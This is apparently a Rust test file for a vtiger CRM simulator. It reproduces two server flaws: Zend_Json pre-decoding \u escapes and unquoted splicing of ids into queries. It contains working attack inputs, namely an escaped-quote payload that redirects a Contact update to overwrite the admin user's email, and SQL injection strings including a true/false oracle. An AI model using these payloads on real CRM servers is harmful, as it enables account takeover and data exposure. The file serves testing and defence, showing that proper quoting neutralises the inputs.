//! The two server behaviours behind issue 15's proxy bypasses, as the simulator models them:
//! Zend_Json's pre-decoding of every `\uXXXX` of `element` before tokenizing, and the unquoted
//! splice of id and reference values into SQL.

mod common;

use common::start;
use crmwire_sim::ops::zend_decode;
use crmwire_sim::Profile;
use serde_json::json;

/// The attack of issue 15: a standard JSON parse sees a Contact, Zend sees the admin user.
const ATTACK_TAIL: &str = r#""lastname":"x\u0022,\u0022id\u0022:\u002219x1\u0022,\u0022email1\u0022:\u0022evil@example.com"}"#;

#[test]
fn zend_pre_decodes_the_whole_text() {
    // every \uXXXX, `u` in either case, before tokenizing
    let v = zend_decode(&format!(r#"{{"id":"12x69",{ATTACK_TAIL}"#)).unwrap();
    assert_eq!(v["id"], "19x1");
    assert_eq!(v["email1"], "evil@example.com");
    assert_eq!(
        zend_decode(r#"{"a":"\U0041\u00e9\u4e2d"}"#).unwrap(),
        json!({"a": "Aé中"})
    );
    // recording 294: an escaped quote inside a string breaks the JSON
    assert!(
        zend_decode(r#"{"lastname":"Say \u0022hi\u0022","assigned_user_id":"19x1"}"#).is_none()
    );
    // \u005c becomes a backslash that the tokenizer then reads as an escape
    assert_eq!(
        zend_decode(r#"{"a":"x\u005cn"}"#).unwrap(),
        json!({"a": "x\n"})
    );
    // decoded control characters are kept inside strings (recording 272); raw ones are dropped
    assert_eq!(
        zend_decode("{\"a\":\"x\\u000by\"}").unwrap(),
        json!({"a": "x\u{b}y"})
    );
    assert_eq!(
        zend_decode("{\"a\":\"x\u{1}y\"}").unwrap(),
        json!({"a": "xy"})
    );
    // the escapes Zend knows, \' included; others throw
    assert_eq!(
        zend_decode(r#"{"a":"\'\"\\\/\t"}"#).unwrap(),
        json!({"a": "'\"\\/\t"})
    );
    assert!(zend_decode(r#"{"a":"\x"}"#).is_none());
    // a surrogate pair is decoded half by half (each half is stored as one `?`)
    assert_eq!(
        zend_decode(r#"{"a":"\ud83d\ude00"}"#).unwrap(),
        json!({"a": "??"})
    );
    // a clean encoding (raw UTF-8, escaped quotes and backslashes) reads as standard JSON
    let clean =
        json!({"id": "12x69", "lastname": "x\",\"id\":\"19x1", "b": "\\u0022", "c": "é 😀"});
    assert_eq!(
        zend_decode(&clean.to_string()).unwrap()["lastname"],
        clean["lastname"]
    );
    assert_eq!(zend_decode(&clean.to_string()).unwrap()["id"], "12x69");
}

#[tokio::test]
async fn escaped_quotes_in_element_reach_another_record() {
    let (_a, mut c) = start(Profile::V84, |c| c.seed_records = 5).await;
    c.login().await;
    let contact = c
        .create(
            "Contacts",
            json!({"lastname": "Victim", "assigned_user_id": "19x1"}),
        )
        .await["result"]["id"]
        .as_str()
        .unwrap()
        .to_string();
    // `revise` with a Contact id on the surface revises the admin user.
    let el = format!(r#"{{"id":"{contact}",{ATTACK_TAIL}"#);
    let r = c
        .post(&[
            ("operation", "revise"),
            ("sessionName", &c.session),
            ("element", &el),
        ])
        .await
        .json();
    assert_eq!(r["success"], true, "{r}");
    assert_eq!(r["result"]["id"], "19x1", "{r}");
    assert_eq!(r["result"]["email1"], "evil@example.com");
    let u = c
        .get(&[
            ("operation", "retrieve"),
            ("sessionName", &c.session),
            ("id", "19x1"),
        ])
        .await
        .json();
    assert_eq!(u["result"]["email1"], "evil@example.com", "{u}");
    // The same member escaped properly stays inside the string.
    let safe = json!({"id": contact, "lastname": "x\",\"id\":\"19x1"}).to_string();
    let r = c
        .post(&[
            ("operation", "revise"),
            ("sessionName", &c.session),
            ("element", &safe),
        ])
        .await
        .json();
    assert_eq!(r["result"]["id"], contact.as_str(), "{r}");
    assert_eq!(r["result"]["lastname"], "x\",\"id\":\"19x1");
}

#[tokio::test]
async fn id_and_reference_values_are_spliced_unquoted() {
    let (_a, mut c) = start(Profile::V84, |c| c.seed_records = 150).await;
    c.login().await;
    let one = c.query("SELECT id FROM Contacts WHERE id = '12x69';").await;
    assert_eq!(one["result"].as_array().unwrap().len(), 1, "{one}");
    // Delete one Contact: the injected condition escapes `deleted = 0` and the LIMIT stays.
    let d = c
        .post(&[
            ("operation", "delete"),
            ("sessionName", &c.session),
            ("id", "12x69"),
        ])
        .await
        .json();
    assert_eq!(d["success"], true, "{d}");
    let all = c
        .query("SELECT id FROM Contacts WHERE id = '12x0) OR 1=1 OR (1';")
        .await;
    let rows = all["result"].as_array().unwrap();
    assert_eq!(rows.len(), 100, "every row (up to the cap): {all}");
    assert!(
        rows.iter().any(|r| r["id"] == "12x69"),
        "the deleted Contact is among them"
    );
    // A true/false oracle: the injected condition decides.
    let yes = c
        .query("SELECT id FROM Contacts WHERE id = '12x0) OR (1=1) AND (1';")
        .await;
    let no = c
        .query("SELECT id FROM Contacts WHERE id = '12x0) OR (1=2) AND (1';")
        .await;
    assert_eq!(yes["result"].as_array().unwrap().len(), 100, "{yes}");
    assert_eq!(no["result"].as_array().unwrap().len(), 0, "{no}");
    // Reference and owner fields are spliced the same way.
    for f in ["account_id", "assigned_user_id", "modifiedby"] {
        let r = c
            .query(&format!(
                "SELECT id FROM Contacts WHERE {f} = '11x0) OR 1=1 OR (1';"
            ))
            .await;
        assert_eq!(r["result"].as_array().unwrap().len(), 100, "{f}: {r}");
    }
    // Quoted the way crmwire's builder writes an id, the same text is one harmless value.
    let lit = crmwire::vtiger::vtql::literal("12x0) OR 1=1 OR (1").unwrap();
    let r = c
        .query(&format!("SELECT id FROM Contacts WHERE lastname = {lit};"))
        .await;
    assert_eq!(r["result"].as_array().unwrap().len(), 0, "{r}");
}
